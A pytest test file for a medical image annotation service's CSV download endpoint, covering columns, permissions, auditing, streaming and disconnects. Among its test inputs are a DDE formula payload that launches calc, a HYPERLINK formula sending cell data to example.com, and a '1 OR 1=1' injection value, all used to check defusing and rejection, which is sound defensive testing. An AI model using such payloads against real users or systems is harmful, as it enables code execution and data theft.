"""`/download`: TheYelda's table of labels, from its columns to what a client that stops reading can hold up."""

import asyncio
import csv
import io
import tracemalloc
from collections.abc import AsyncGenerator
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text
from starlette.requests import ClientDisconnect
from starlette.types import ASGIApp, Receive, Scope, Send
from support.annotation import SEED_LABEL, KeptAudit, Lab, MakeAnnotationSettings, invalid, said
from support.gateway import Key, Server
from support.kit import verifier_of
from support.results import many_results, result, settled_by_administrator

from annotation_service.app import create_app
from annotation_service.exports.csv_cells import FORMULA_STARTS, cell, csv_lines, defused
from annotation_service.exports.download import DOWNLOADS, LABEL_COLUMNS, Downloads
from annotation_service.exports.errors import TooManyDownloads
from annotation_service.exports.streaming import ClosingResponse
from annotation_service.workflow.states import JobState
from lightbox_shared.auth.principal import Authority

HEAD = ["image_name", *SEED_LABEL]
BOTH = pytest.mark.parametrize("path", ["/download", "/download/", "/api/download", "/api/download/"])


def rows_of(answer: httpx.Response) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.text, newline="")))


async def download(lab: Lab, path: str = "/download", **params: Any) -> httpx.Response:
    return await lab.http.get(path, params=params, headers=lab.headers(2, Authority.ADMIN))


@BOTH
async def test_the_labels_of_a_doctor(lab: Lab, path: str) -> None:
    nick, other = await lab.doctor("Nick"), await lab.doctor()
    images = [await lab.image(await lab.picture(filename=f"eye {number}.png")) for number in range(3)]
    await result(lab, images[0], nick.id, SEED_LABEL)
    await result(lab, images[1], nick.id, {"quality": [701, 702], "dr": None, "stage": 3, "comment": 'a "b",\r\nc 好'})
    await result(lab, images[2], nick.id, SEED_LABEL, state=JobState.LABELING)
    await result(lab, images[0], other.id, SEED_LABEL)

    answer = await download(lab, path, account_id=nick.id)
    assert rows_of(answer) == [
        ["doctor_name", *HEAD],
        ["Nick", "eye 0.png", "True", "False", "2", "True", "1", "1", *["True"] * 6, "1"],
        ["Nick", "eye 1.png", "701&702", "", "3", *[""] * 9, 'a "b",\r\nc 好'],
    ]
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == f'attachment; filename="labels-{nick.id}.csv"'
    assert answer.headers["cache-control"] == "private, no-store"
    assert [row[0] for row in rows_of(await download(lab, path, account_id=other.id))[1:]] == [f"doctor-{other.id}"]


@BOTH
async def test_the_ground_truths(lab: Lab, path: str) -> None:
    doctor, admin = await lab.doctor(), await lab.admin()
    pictures = [await lab.picture(filename=name) for name in ("a.png", "b.png", "c.png")]
    first, second, third = [await lab.image(picture) for picture in pictures]
    await result(lab, second, doctor.id, {"dr": True}, ground_truth=True)
    await result(lab, first, doctor.id, {"dr": False})
    await settled_by_administrator(lab, third, admin.id, {"dr": 4, "comment": ""})
    for query in ({}, {"account_id": ""}):
        answer = await download(lab, path, **query)
        assert rows_of(answer) == [
            HEAD,
            ["b.png", "", "True", *[""] * 11],
            ["c.png", "", "4", *[""] * 11],
        ]
        assert answer.headers["content-disposition"] == 'attachment; filename="labels.csv"'


async def test_without_labels_there_is_the_line_of_names(lab: Lab) -> None:
    assert (await download(lab)).text == "image_name," + ",".join(SEED_LABEL) + "\r\n"
    assert (await download(lab, account_id=(await lab.doctor()).id)).text.startswith("doctor_name,image_name,quality,")
    assert list(LABEL_COLUMNS) == list(SEED_LABEL)


async def test_the_name_of_a_doctor_who_is_gone(lab: Lab) -> None:
    gone = await lab.person(Authority.DOCTOR, "", deleted=True)
    await result(lab, await lab.image(), gone.id, SEED_LABEL)
    assert rows_of(await download(lab, account_id=gone.id))[1][0] == f"doctor-{gone.id}"


async def test_labels_of_other_schemes_are_not_in_this_table(lab: Lab) -> None:
    admin, doctor = await lab.admin(), await lab.doctor()
    document = {"type": "object", "properties": {"grade": {"type": "integer"}}}
    body = {"name": "skin", "title": "Skin", "schema": document}
    assert (await lab.http.post("/api/schemes", json=body, headers=admin.headers)).status_code == 201
    async with lab.database.reading() as session:
        scheme = await lab.services.schemes.named(session, "skin")
    image = await lab.image(scheme_id=scheme.id)
    await result(lab, image, doctor.id, {"grade": 2}, scheme_id=scheme.id, ground_truth=True)
    assert len(rows_of(await download(lab))) == 1
    assert len(rows_of(await download(lab, account_id=doctor.id))) == 1


@BOTH
async def test_who_may_call(lab: Lab, path: str) -> None:
    assert said(await lab.http.get(path)) == (401, "用户未登录")
    for authority in (Authority.NONE, Authority.DOCTOR, Authority.GUEST, Authority.EXPERT):
        assert said(await lab.http.get(path, headers=lab.headers(3, authority))) == (403, "用户没有权限")
    assert lab.audit.entries == []


async def test_accounts_that_are_none(lab: Lab) -> None:
    assert said(await download(lab, account_id=99_999)) == (404, "用户不存在")
    for wrong in (0, -1, 2**63, "abc", "1.5", "٣", "1 OR 1=1", "\0"):
        assert "account_id" in invalid(await download(lab, account_id=wrong))
    assert lab.audit.entries == []


async def test_it_is_written_down_before(lab: Lab) -> None:
    doctor = await lab.doctor()
    headers = {**lab.headers(7, Authority.ADMIN), "X-Forwarded-For": "203.0.113.9"}
    assert (await lab.http.get(f"/download?account_id={doctor.id}", headers=headers)).status_code == 200
    assert lab.audit.entries == [("export-created", 7, "203.0.113.9", {"format": "download", "account_id": doctor.id})]
    lab.audit.is_down = True
    answer = await download(lab)
    assert (answer.status_code, set(answer.json())) == (503, {"message"})


@pytest.mark.parametrize("start", sorted(FORMULA_STARTS))
async def test_formulas_are_defused(lab: Lab, start: str) -> None:
    formula = f'{start}HYPERLINK("http://example.com/?"&A1,"here")'
    doctor = await lab.doctor(f"{start}cmd|' /C calc'!A0")
    image = await lab.image(await lab.picture(filename=f"{start}1+1.png"))
    await result(lab, image, doctor.id, {"stage": f"{start}1", "hr": -1, "comment": formula})
    row = rows_of(await download(lab, account_id=doctor.id))[1]
    assert row[:2] == [f"'{start}cmd|' /C calc'!A0", f"'{start}1+1.png"]
    named = dict(zip(["doctor_name", *HEAD], row, strict=True))
    assert (named["stage"], named["comment"]) == (f"'{start}1", f"'{formula}")
    assert named["hr"] == "-1"  # a number is no formula


def restored(text: str) -> str:
    """What a program reads that knows the rule."""
    return text[1:] if text.startswith("'") and text.lstrip("'")[:1] in FORMULA_STARTS else text


TEXTS = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=12) | st.text(
    "='\t\r\n+-@\",; a", max_size=6
)
ITEMS = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False)


@given(st.lists(st.lists(ITEMS | TEXTS | st.lists(st.integers(), max_size=3), min_size=2, max_size=4)))
def test_every_table_is_read_back(table: list[list[Any]]) -> None:
    found = list(csv.reader(io.StringIO(csv_lines(table).decode(), newline="")))
    assert len(found) == len(table)
    for row, values in zip(found, table, strict=True):
        assert len(row) == len(values)
        for read, value in zip(row, values, strict=True):
            match value:
                case str():
                    assert restored(read) == value
                    assert read[:1] not in FORMULA_STARTS
                case list():
                    assert restored(read) == "&".join(map(str, value))
                case None:
                    assert read == ""
                case _:
                    assert read == str(value)


@given(TEXTS, TEXTS)
def test_two_texts_are_never_written_alike(one: str, other: str) -> None:
    assert (defused(one) == defused(other)) is (one == other)


def test_other_values_of_cells() -> None:
    assert cell({"a": [1, None]}) == '{"a": [1, null]}'
    assert cell([[1], 2]) == "[[1], 2]"
    assert cell(["=1", "x"]) == "'=1&x"
    assert cell(datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)) == "2026-01-02T03:04:05.000000Z"


async def test_a_download_of_any_size_is_in_memory_a_part_at_a_time(lab: Lab) -> None:
    await many_results(lab.database, 4_000, doctors=3)
    size = 0
    tracemalloc.start()
    try:
        pieces = await lab.services.downloads.start(2, None, 1001)
        async for piece in pieces:
            size += len(piece)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert size > 600_000
    assert peak < 6_000_000


class OnServer:
    """The service on a server, with tokens of the tests."""

    def __init__(self, app: ASGIApp, key: Key) -> None:
        self._app, self._key = app, key

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            state = scope["state"]
            downloads = Downloads(state["database"], KeptAudit())
            services = replace(state["services"], downloads=downloads)
            scope["state"] = {**state, "services": services, "tokens": verifier_of(self._key)}
        await self._app(scope, receive, send)


async def test_a_download_that_fails_is_not_taken_for_complete(lab: Lab, make_settings: MakeAnnotationSettings) -> None:
    await many_results(lab.database, 1_500, doctors=3, words=2_000)  # more than the system's buffers hold
    server = Server(OnServer(create_app(make_settings()), lab.key))
    try:
        async with httpx.AsyncClient(base_url=server.url, timeout=20) as http:
            headers = lab.headers(2, Authority.ADMIN)
            async with http.stream("GET", "/download?account_id=1001", headers=headers) as answer:
                assert answer.status_code == 200
                pieces = answer.aiter_raw()
                assert (await anext(pieces)).startswith(b"doctor_name,image_name,quality,")
                await end_other_backends(lab)
                with pytest.raises(httpx.RemoteProtocolError):
                    async for _ in pieces:
                        pass
    finally:
        server.stop()


async def end_other_backends(lab: Lab) -> None:
    """As the database does when it is shut down."""
    async with lab.database.reading() as session:
        await session.execute(
            text(
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"
                " WHERE pid <> pg_backend_pid() AND datname = current_database()"
            )
        )


async def test_few_downloads_run_at_once(lab: Lab) -> None:
    await many_results(lab.database, 600, doctors=3)
    downloads = Downloads(lab.database, lab.audit, wait_seconds=0.05)
    running = [await downloads.start(2, None, 1001) for _ in range(DOWNLOADS)]
    with pytest.raises(TooManyDownloads):
        await downloads.start(2, None, 1001)
    await running[0].aclose()  # its client has gone
    async for _ in await downloads.start(2, None, 1001):
        pass
    async for _ in running[1]:
        pass


async def test_a_client_that_stops_reading_is_given_up() -> None:
    closed = asyncio.Event()

    async def pieces() -> AsyncGenerator[bytes]:
        try:
            while True:
                yield b"x"
        finally:
            closed.set()

    async def send(message: Any) -> None:
        if message["type"] == "http.response.body":
            await asyncio.Event().wait()

    async def receive() -> dict[str, Any]:
        await asyncio.Event().wait()
        raise AssertionError

    response = ClosingResponse(pieces(), headers={}, media_type="text/csv", send_seconds=0.05)
    scope = {"type": "http", "asgi": {"version": "3.0", "spec_version": "2.4"}}
    with pytest.raises(ClientDisconnect):
        await response(scope, receive, send)
    assert closed.is_set()
